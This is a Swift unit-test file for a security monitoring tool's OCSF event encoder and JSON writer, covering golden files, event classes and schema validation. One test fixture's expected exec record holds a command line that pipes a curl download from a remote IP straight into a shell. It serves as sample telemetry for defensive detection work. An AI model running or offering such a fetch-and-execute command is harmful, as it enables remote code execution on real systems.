import Foundation
import Testing
import VigilTestSupport
import VigilCore
@testable import VigilOutput

@Suite struct OCSFEncoderTests {
    /// `VIGIL_UPDATE_GOLDEN=1 swift test --filter OCSFEncoderTests` rewrites the golden files
    /// in the source tree; review the diff before committing it.
    static let updateGolden = ProcessInfo.processInfo.environment["VIGIL_UPDATE_GOLDEN"] == "1"

    @Test(arguments: Samples.all.map(\.0))
    func matchesGoldenFile(name: String) throws {
        let encoded = try #require(Samples.all.first { $0.0 == name }?.1)
        // Pretty-printing for review would need a JSON parser; one event per line is the
        // wire format, so the golden file is that exact line.
        let line = encoded.text + "\n"
        if Self.updateGolden {
            let dir = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Golden")
            try line.write(to: dir.appendingPathComponent("\(name).json"), atomically: false, encoding: .utf8)
            return
        }
        let url = try #require(Bundle.module.url(forResource: "Golden/\(name)", withExtension: "json"),
                               "no golden file for \(name): run with VIGIL_UPDATE_GOLDEN=1")
        let expected = try String(contentsOf: url, encoding: .utf8)
        #expect(line == expected)
    }

    @Test func syscallsAreNotEmittedUnlessAskedAndForksOnlyWhenAsked() throws {
        let syscall = Event(timeNanos: 1, pid: 1, tid: 1, comm: "x", payload: .syscall(.init(number: 59)))
        #expect(Samples.encoder.encode(syscall, process: nil) == nil)
        let line = try #require(Samples.syscallEncoder.encode(syscall, process: nil)).text
        #expect(line.contains(#""activity_id":99"#))
        #expect(line.contains(#""unmapped":{"syscall":{"nr":59,"name":"execve"}}"#))
        let fork = Samples.events.first { $0.name == "fork" }!
        #expect(OCSFEncoder(hostname: "h", productVersion: "1").encode(fork.event, process: fork.process) == nil)
    }

    @Test func execWithoutATableStillNamesProgramAndUser() throws {
        let exec = Samples.events.first { $0.name == "exec" }!
        let e = try #require(Samples.encoder.encode(exec.event, process: nil))
        #expect(e.text.contains(#""process":{"pid":4242,"name":"dash","cmd_line":"sh -c curl -s http://203.0.113.7:4444/x | sh","file":{"name":"dash","path":"/usr/bin/dash","type_id":1,"type":"Regular File"},"user":{"uid":"33"}"#))
        #expect(e.text.contains(#""parent_process":{"pid":812}"#))
    }

    @Test func typeUIDIsClassTimesHundredPlusActivity() throws {
        for (name, e) in Samples.all {
            let obj = try #require(JSONSerialization.jsonObject(with: Data(e.bytes)) as? [String: Any], "\(name) is not a JSON object")
            let cls = obj["class_uid"] as? Int, act = obj["activity_id"] as? Int, type = obj["type_uid"] as? Int
            #expect(type == cls! * 100 + act!, "\(name)")
            #expect(cls == e.classUID, "\(name)")
            #expect(!e.bytes.contains(UInt8(ascii: "\n")), "\(name) must be one line")
        }
    }

    /// Found by scripts/fuzz.sh record: a network record whose result is Int64.min (no kernel
    /// sends it; a corrupt ring can) trapped the encoder when it negated the result.
    @Test func anImpossibleNetworkResultIsReportedNotATrap() throws {
        let event = Samples.net(.connect, result: Int64.min, local: Samples.local, remote: Samples.attacker)
        let e = try #require(Samples.encoder.encode(event, process: Samples.shell))
        let obj = try #require(JSONSerialization.jsonObject(with: Data(e.bytes)) as? [String: Any])
        #expect(obj["status"] as? String == "Failure")
        #expect((obj["status_detail"] as? String)?.contains("connect failed") == true, "\(obj)")
    }

    @Test func networkActivitiesUseThe15Enum() throws {
        func activity(_ name: String) throws -> Int {
            let e = try #require(Samples.all.first { $0.0 == name }?.1)
            let obj = try #require(JSONSerialization.jsonObject(with: Data(e.bytes)) as? [String: Any])
            return obj["activity_id"] as! Int
        }
        #expect(try activity("connect") == 1)
        #expect(try activity("connect-refused") == 5)
        #expect(try activity("connect-unreachable-v6") == 4)
        #expect(try activity("listen") == 7)
        #expect(try activity("accept") == 1)
        #expect(try activity("bind") == 99)
    }

    @Test(.enabled(if: Tools.pythonWithOCSF != nil || Tools.required,
                   "needs python3 with jsonschema and ocsf-json-schema (scripts/python-requirements.txt)"))
    func everyEventKindValidatesAgainstTheOCSFSchema() throws {
        let python = try #require(Tools.pythonWithOCSF, "VIGIL_REQUIRE_TOOLS=1 but python3 with jsonschema and ocsf-json-schema is missing")
        var input = Data()
        for (_, e) in Samples.all { input.append(contentsOf: e.bytes); input.append(0x0a) }
        for e in Samples.withUIDs { input.append(contentsOf: e.bytes); input.append(0x0a) }
        let script = Tools.packageRoot.appendingPathComponent("scripts/validate_ocsf.py").path
        let result = try Tools.run(python, [script], input: input)
        #expect(result.status == 0, "\(result.output)")
        #expect(result.output.contains("\(Samples.all.count + Samples.withUIDs.count) passed, 0 failed"), "\(result.output)")
    }
}

@Suite struct JSONWriterTests {
    @Test func escapesControlCharactersQuotesAndLineSeparators() {
        var w = JSONWriter()
        w.object { w in w.field("k\"", "a\u{0}b\u{1f}\t\n\r\\\"\u{7f}\u{2028}é\u{1F600}") }
        #expect(String(decoding: w.bytes, as: UTF8.self)
            == #"{"k\"":"a\u0000b\u001f\t\n\r\\\"\u007f\u2028é😀"}"#)
    }

    @Test func invalidUTF8BecomesReplacementCharacter() {
        var w = JSONWriter()
        w.array { w in w.string(utf8: [0x61, 0xff, 0xc3, 0x62]); w.number(-5); w.bool(true) }
        #expect(String(decoding: w.bytes, as: UTF8.self) == "[\"a\u{FFFD}\u{FFFD}b\",-5,true]")
    }

    @Test func outputParsesAsJSONWithKeysInWrittenOrder() throws {
        var w = JSONWriter()
        w.object { w in
            w.field("z", 1)
            w.object("a") { w in w.field("y", "x"); w.array("e") { _ in } }
            w.field("m", ifPresent: nil as String?)
        }
        let text = String(decoding: w.bytes, as: UTF8.self)
        #expect(text == #"{"z":1,"a":{"y":"x","e":[]}}"#)
        #expect(try JSONSerialization.jsonObject(with: Data(w.bytes)) is [String: Any])
    }
}
